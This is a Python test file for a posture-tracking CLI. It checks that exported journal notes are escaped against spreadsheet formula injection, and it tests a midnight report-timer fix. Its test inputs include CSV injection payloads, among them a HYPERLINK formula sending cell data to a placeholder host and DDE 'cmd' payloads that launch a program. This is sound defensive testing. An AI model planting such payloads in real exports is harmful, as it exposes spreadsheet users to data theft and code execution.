"""Attacks on the files posture-watch reads and writes (issue 18, items 5, 6 and 9).

Each test is an attack that worked before its fix: a pain journal note that a spreadsheet
runs as a formula, settings, profiles, pictures and recordings edited by hand to be
absurd or huge, and private files left readable by others. They run the real CLI on real
files; the ones that start a process are marked ``slow``.
"""

import csv
import io
import os
import subprocess
import sys

import pytest

from posture_watch.commands.history_cli import spreadsheet_safe

CLI = [sys.executable, "-m", "posture_watch.cli"]


@pytest.fixture
def env(tmp_path):
    return {
        **os.environ,
        "XDG_CONFIG_HOME": str(tmp_path / "config"),
        "XDG_DATA_HOME": str(tmp_path / "data"),
        "XDG_STATE_HOME": str(tmp_path / "state"),
        "XDG_CACHE_HOME": str(tmp_path / "cache"),
    }


def run(env, *args, umask=None, timeout=60):
    def set_umask():
        os.umask(umask)

    return subprocess.run(
        [*CLI, *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=None if umask is None else set_umask,
    )


def one_line_error(proc, *words):
    assert proc.returncode != 0, proc
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


# -- item 6: CSV formula injection ------------------------------------------------------


def test_every_formula_start_is_escaped_and_numbers_are_not():
    for cell in ("=1", "+1", "-1+1", "@A1", "\tx", "\rx"):
        assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("neck, upper back") == "neck, upper back"


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"see")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


@pytest.mark.slow
def test_journal_notes_that_look_like_formulas_export_as_text(env):
    for note in FORMULAS:
        proc = run(env, "journal", "--pain", "3", f"--note={note}")
        assert proc.returncode == 0, proc.stderr
    proc = run(env, "export", "--table", "journal", "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    notes = [row["note"] for row in csv.DictReader(io.StringIO(proc.stdout))]
    assert sorted(notes) == sorted("'" + note for note in FORMULAS)
    for row in csv.DictReader(io.StringIO(proc.stdout)):
        assert int(row["pain"]) == 3  # numbers stay numbers
    # JSON stays raw: it is read by programs, not run by a spreadsheet
    proc = run(env, "export", "--table", "journal", "--format", "json")
    assert '"=cmd|' in proc.stdout and "\"'=cmd" not in proc.stdout


# -- item 9: bad files ------------------------------------------------------------------


def test_a_daily_report_at_midnight_fires_once_for_the_day_that_ended():
    """``daily_at = "00:00"`` passed ``settings --check`` and then wrote the report of the
    day just started (empty) instead of the day that ended."""
    from datetime import date, datetime, timedelta

    from posture_watch.config import config_from_text
    from posture_watch.core.day_timer import DayTimer

    config = config_from_text('[report]\ndaily_at = "00:00"\n', "settings.toml")
    start = datetime(2024, 5, 1, 23, 0)
    timer = DayTimer(start, config.report.daily_at)
    fired = []
    for step in range(2 * 24 * 120):  # two days, a tick every 30 s
        local = start + timedelta(seconds=30 * step)
        if timer.report_due(local):
            fired.append((local, timer.report_day))
    assert fired == [
        (datetime(2024, 5, 2, 0, 0), date(2024, 5, 1)),
        (datetime(2024, 5, 3, 0, 0), date(2024, 5, 2)),
    ]
